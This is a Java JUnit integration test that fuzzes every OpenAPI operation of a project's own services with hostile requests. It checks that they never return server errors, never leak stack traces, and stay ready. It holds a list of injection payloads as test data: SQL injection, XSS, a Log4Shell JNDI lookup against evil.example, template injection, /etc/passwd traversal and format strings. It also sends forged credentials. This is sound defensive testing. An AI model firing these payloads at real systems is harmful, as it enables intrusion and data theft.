package io.feedbackloop.looptests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import io.feedbackloop.stack.LoopStack;
import org.jboss.logging.Logger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Ten thousand hostile requests spread over every operation that the four services publish in
 * their OpenAPI documents (feedback-ingest's front door has its own, deeper suite): broken and
 * junk JSON, wrong types, out-of-range numbers, oversized and deeply nested bodies, invalid
 * UTF-8, control characters, injection strings, unknown fields, wrong media types, hostile path
 * and query parameters, missing and forged credentials. Never a 5xx; every refusal is a 4xx
 * {@code application/problem+json} without a stack trace; broken JSON is never taken; every
 * service stays ready. {@code -Dhostile.seed=} reproduces a run.
 */
class HostileRestIT {

    private static final Logger LOG = Logger.getLogger(HostileRestIT.class);
    private static final int REQUESTS = Integer.getInteger("hostile.rest-requests", 10_000);
    private static final long SEED = Long.getLong("hostile.seed", 20261123L);
    private static final List<String> KINDS = List.of("truncated-json", "junk-json", "wrong-type", "out-of-range",
            "oversized", "deep-nesting", "invalid-utf8", "control-chars", "injection", "unknown-field", "empty-or-null",
            "wrong-media-type", "hostile-path", "hostile-query", "no-credentials", "forged-credentials", "valid-sample");
    private static final String[] INJECTIONS = {"'; DROP TABLE support_case; --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "{inject:config}", "../../../../etc/passwd", "\" OR 1=1 --",
            "<img src=x onerror=alert(1)>", "\u202Egnp.exe", "%s%s%s%n"};
    private static final String[] HOSTILE_PARAMETERS = {"not-a-uuid", "' OR 1=1--", "../../etc/passwd", "\u0000",
            "x".repeat(5000), "-1", "99999999999999999999", "NaN", "😀", "<script>", "2026-13-45T99:99:99Z",
            "P-1D", "true", "[]", "{}", " "};
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5))
            // HTTP/1.1 as curl and most clients speak it: a hostile request ends its connection, not an h2c session
            .version(HttpClient.Version.HTTP_1_1).build();
    private static LoopStack stack;

    private final Random random = new Random(SEED);

    @BeforeAll
    static void startLoop() throws Exception {
        stack = LoopStack.start(LoopStack.repositoryRoot(), Files.createTempDirectory("loop-hostile"), false, false);
    }

    @AfterAll
    static void stopLoop() {
        if (stack != null) {
            stack.close();
        }
    }

    private record Target(String service, String baseUrl, OpenApiOperations api, OpenApiOperations.Operation operation) {
    }

    private record Hostile(String kind, String method, String path, Map<String, String> headers, byte[] body,
                           boolean mustRefuse) {
    }

    @Test
    void everyOperationOfEveryServiceAnswersHostileRequestsWithProblemsNeverAServerError() throws Exception {
        List<Target> targets = new ArrayList<>();
        for (LoopStack.Service service : LoopStack.SERVICES) {
            String baseUrl = stack.service(service.module()).baseUrl();
            HttpResponse<String> document = HTTP.send(HttpRequest.newBuilder(URI.create(baseUrl + "/q/openapi?format=json"))
                    .build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(200, document.statusCode(), service.module() + " publishes its OpenAPI document");
            OpenApiOperations api = new OpenApiOperations(LoopClient.JSON.readTree(document.body()));
            List<OpenApiOperations.Operation> operations = api.operations();
            assertTrue(operations.size() >= 5, service.module() + " publishes its operations: " + operations.size());
            operations.forEach(op -> targets.add(new Target(service.module(), baseUrl, api, op)));
        }
        LOG.infof("fuzzing %d operations of %d services with %d requests (seed %d)", targets.size(),
                LoopStack.SERVICES.size(), REQUESTS, SEED);

        Map<String, Map<Integer, Integer>> statuses = new TreeMap<>();
        List<String> violations = new ArrayList<>();
        int violationCount = 0;
        java.util.Set<String> seen = new java.util.HashSet<>();
        // per service, since the client keeps a connection to each
        Map<String, Integer> previousStatus = new java.util.HashMap<>();
        for (int i = 0; i < REQUESTS; i++) {
            Target target = targets.get(random.nextInt(targets.size()));
            Hostile hostile = hostile(KINDS.get(i % KINDS.size()), target);
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(target.baseUrl() + hostile.path()))
                    .timeout(Duration.ofSeconds(30))
                    .method(hostile.method(), hostile.body() == null ? HttpRequest.BodyPublishers.noBody()
                            : HttpRequest.BodyPublishers.ofByteArray(hostile.body()));
            hostile.headers().forEach(request::header);
            HttpResponse<String> response;
            try {
                response = sendAfter(previousStatus.getOrDefault(target.baseUrl(), 0), request.build());
            } catch (java.io.IOException closed) {
                // a connection closed without an answer is a defect of its own: name the request that caused it
                violationCount++;
                violations.add("#" + i + " " + target.service() + " " + hostile.kind() + " " + hostile.method() + " "
                        + abbreviate(hostile.path(), 120) + " headers " + abbreviate(hostile.headers().keySet().toString(), 200)
                        + " body " + (hostile.body() == null ? 0 : hostile.body().length) + " bytes -> no answer: " + closed);
                continue;
            }
            int status = response.statusCode();
            previousStatus.put(target.baseUrl(), status);
            statuses.computeIfAbsent(hostile.kind(), k -> new TreeMap<>()).merge(status, 1, Integer::sum);
            String type = response.headers().firstValue("Content-Type").orElse("");
            String problem = null;
            if (status >= 500) {
                problem = "a server error";
            } else if (status >= 400 && !type.startsWith("application/problem+json")
                    && !(target.operation().answersHtml() && type.startsWith("text/html"))
                    && !refusedByTheHttpServer(status, response.body())) {
                // a page a customer opens in the browser (the unsubscribe link) answers with a page
                problem = "a refusal that is not problem+json";
            } else if (status >= 400 && (response.body().contains("Exception") || response.body().contains("\tat "))) {
                problem = "a stack trace or exception name in the answer";
            } else if (hostile.mustRefuse() && status < 400) {
                problem = "broken JSON taken";
            }
            if (problem != null) {
                violationCount++;
                // one example per kind of violation, so that a run shows every distinct defect
                String signature = target.service() + " " + hostile.method() + " " + target.operation().pathTemplate()
                        + " " + status + " " + problem;
                if (seen.add(signature) && violations.size() < 40) {
                    violations.add("#" + i + " " + target.service() + " " + hostile.kind() + " " + hostile.method() + " "
                            + abbreviate(hostile.path(), 120) + " -> " + status + " " + type + ": " + problem + " "
                            + abbreviate(response.body(), 300));
                }
            }
        }
        statuses.forEach((kind, counts) -> LOG.infof("hostile %s: %s", kind, counts));
        assertTrue(violations.isEmpty(), violationCount + " violations, the first:\n" + String.join("\n", violations));
        for (LoopStack.Service service : LoopStack.SERVICES) {
            HttpResponse<String> ready = HTTP.send(HttpRequest.newBuilder(URI.create(
                    stack.service(service.module()).managementUrl() + "/q/health/ready")).build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(200, ready.statusCode(), service.module() + " still ready: " + ready.body());
        }
    }

    /**
     * Sign-in, sign-out and the caller's own password and tokens get the hostile requests without the
     * administrator's token: with it, a random but valid request could sign the run's administrator out
     * or change its password, and every later request would test only the 401.
     */
    private static boolean ownsTheCallersAccount(String pathTemplate) {
        return pathTemplate.startsWith("/auth/") || pathTemplate.startsWith("/api/v1/me");
    }

    /**
     * After refusing an over-long request line (414/431) the HTTP server closes the connection, and
     * the client may still hold it for that service's next request: like a browser, resend it once on a
     * new connection. Any other connection closed without an answer is a violation.
     */
    private static HttpResponse<String> sendAfter(int previousStatus, HttpRequest request)
            throws java.io.IOException, InterruptedException {
        try {
            return HTTP.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (java.io.IOException closed) {
            if (previousStatus == 414 || previousStatus == 431) {
                return HTTP.send(request, HttpResponse.BodyHandlers.ofString());
            }
            throw closed;
        }
    }

    /**
     * A request line longer than {@code quarkus.http.limits.max-initial-line-length} (4 KB) is
     * refused by the HTTP server itself, before any code of ours runs: 414 or 431 with an empty body.
     */
    private static boolean refusedByTheHttpServer(int status, String body) {
        return (status == 414 || status == 431) && body.isEmpty();
    }

    private Hostile hostile(String kind, Target target) {
        OpenApiOperations.Operation op = target.operation();
        Map<String, String> pathValues = new LinkedHashMap<>();
        Map<String, String> queryValues = new LinkedHashMap<>();
        for (OpenApiOperations.Parameter p : op.parameters()) {
            String value = target.api().sample(p.schema(), random, 0).asText();
            if ("path".equals(p.in())) {
                pathValues.put(p.name(), value);
            } else if ("query".equals(p.in()) && random.nextBoolean()) {
                queryValues.put(p.name(), value);
            }
        }
        Map<String, String> headers = new LinkedHashMap<>();
        if (!ownsTheCallersAccount(op.pathTemplate())) {
            headers.put("Authorization", "Bearer " + stack.adminAccessToken());
        }
        headers.put("X-Api-Key", stack.webChannelKey());
        JsonNode sample = op.bodySchema() == null ? null : target.api().sample(op.bodySchema(), random, 0);
        String body = sample == null ? null : sample.toString();
        byte[] bytes = null;
        boolean mustRefuse = false;
        boolean json = op.takesJson();
        switch (kind) {
            case "truncated-json" -> {
                if (body != null && body.length() > 2 && (body.startsWith("{") || body.startsWith("["))) {
                    body = body.substring(0, 1 + random.nextInt(body.length() - 2));
                    mustRefuse = json;
                }
            }
            case "junk-json" -> {
                if (body != null) {
                    body = List.of("{", "[1,2", "{\"a\": }", "{,}", "nul", "{\"a\":1,}", "\"\\uZZZZ\"").get(random.nextInt(7));
                    mustRefuse = json;
                }
            }
            case "wrong-type" -> body = withProperty(sample, List.of(TextNode.valueOf("ten"), LoopClient.JSON.createArrayNode().add(1),
                    LoopClient.JSON.createObjectNode().put("v", 1), LoopClient.JSON.getNodeFactory().booleanNode(true),
                    LoopClient.JSON.getNodeFactory().numberNode(9.5)).get(random.nextInt(5)), body);
            case "out-of-range" -> body = withRaw(sample, List.of("-1", "2147483648", "9223372036854775808", "1e309",
                    "-99999999999", "0.000001").get(random.nextInt(6)), body);
            case "oversized" -> body = withProperty(sample, TextNode.valueOf("я".repeat(1_000_000)), body);
            case "deep-nesting" -> {
                int depth = 2_000 + random.nextInt(8_000);
                if (sample != null && sample.isObject()) {
                    body = withRaw(sample, "[".repeat(depth) + "]".repeat(depth), body);
                    mustRefuse = json;
                }
            }
            case "invalid-utf8" -> {
                if (body != null) {
                    byte[] head = (body.startsWith("{") ? "{\"text\":\"abc" : "\"abc").getBytes(StandardCharsets.UTF_8);
                    byte[] tail = (body.startsWith("{") ? "\"}" : "\"").getBytes(StandardCharsets.UTF_8);
                    byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE};
                    bytes = new byte[head.length + bad.length + tail.length];
                    System.arraycopy(head, 0, bytes, 0, head.length);
                    System.arraycopy(bad, 0, bytes, head.length, bad.length);
                    System.arraycopy(tail, 0, bytes, head.length + bad.length, tail.length);
                    mustRefuse = json;
                }
            }
            case "control-chars" -> body = withProperty(sample,
                    TextNode.valueOf(List.of("nul\u0000", "esc \u001b[31m", "bell \u0007").get(random.nextInt(3))), body);
            case "injection" -> body = withEveryString(sample, INJECTIONS[random.nextInt(INJECTIONS.length)], body);
            case "unknown-field" -> {
                if (sample != null && sample.isObject()) {
                    body = ((ObjectNode) sample.deepCopy()).put("isAdmin", true).put("__proto__", "x").toString();
                }
            }
            case "empty-or-null" -> {
                if (op.bodyMediaType() != null) {
                    body = List.of("", "null", "[]", "{}").get(random.nextInt(4));
                }
            }
            case "hostile-path" -> pathValues.replaceAll((name, value) -> hostileParameter());
            case "hostile-query" -> op.parameters().stream().filter(p -> "query".equals(p.in()))
                    .forEach(p -> queryValues.put(p.name(), hostileParameter()));
            case "no-credentials" -> headers.clear();
            case "forged-credentials" -> {
                headers.put("Authorization", "Bearer " + stack.adminAccessToken() + "x");
                headers.put("X-Api-Key", "fk_forged");
            }
            default -> {
                // valid-sample: what the schema allows, with random values
            }
        }
        if (op.bodyMediaType() != null) {
            String mediaType = kind.equals("wrong-media-type")
                    ? List.of("text/plain", "application/xml", "application/x-www-form-urlencoded").get(random.nextInt(3))
                    : op.bodyMediaType();
            headers.put("Content-Type", mediaType);
            if (bytes == null && body != null) {
                bytes = body.getBytes(StandardCharsets.UTF_8);
            }
        }
        String path = op.pathTemplate();
        for (Map.Entry<String, String> p : pathValues.entrySet()) {
            path = path.replace("{" + p.getKey() + "}", encode(p.getValue()));
        }
        StringBuilder query = new StringBuilder();
        queryValues.forEach((name, value) -> query.append(query.length() == 0 ? "?" : "&").append(encode(name))
                .append('=').append(encode(value)));
        return new Hostile(kind, op.method(), path + query, headers, op.bodyMediaType() == null ? null : bytes, mustRefuse);
    }

    private String hostileParameter() {
        return HOSTILE_PARAMETERS[random.nextInt(HOSTILE_PARAMETERS.length)];
    }

    /** The sample with one random property replaced by {@code value}; the sample itself when it has none. */
    private String withProperty(JsonNode sample, JsonNode value, String fallback) {
        if (sample == null || !sample.isObject() || sample.size() == 0) {
            return fallback;
        }
        ObjectNode copy = sample.deepCopy();
        List<String> names = new ArrayList<>();
        copy.fieldNames().forEachRemaining(names::add);
        copy.set(names.get(random.nextInt(names.size())), value);
        return copy.toString();
    }

    /** The sample with one random property's value replaced by raw JSON text (numbers Jackson cannot hold, nesting). */
    private String withRaw(JsonNode sample, String rawValue, String fallback) {
        if (sample == null || !sample.isObject() || sample.size() == 0) {
            return fallback;
        }
        String marker = "\"__raw_" + random.nextInt(1 << 30) + "__\"";
        return withProperty(sample, TextNode.valueOf(marker.substring(1, marker.length() - 1)), fallback)
                .replace(marker, rawValue);
    }

    private static String withEveryString(JsonNode sample, String text, String fallback) {
        if (sample == null) {
            return fallback;
        }
        JsonNode copy = sample.deepCopy();
        replaceStrings(copy, text);
        return copy.isTextual() ? TextNode.valueOf(text).toString() : copy.toString();
    }

    private static void replaceStrings(JsonNode node, String text) {
        if (node instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            for (String name : names) {
                if (object.get(name).isTextual()) {
                    object.put(name, text);
                } else {
                    replaceStrings(object.get(name), text);
                }
            }
        } else if (node != null && node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                if (node.get(i).isTextual()) {
                    ((com.fasterxml.jackson.databind.node.ArrayNode) node).set(i, TextNode.valueOf(text));
                } else {
                    replaceStrings(node.get(i), text);
                }
            }
        }
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max) + "…";
    }
}
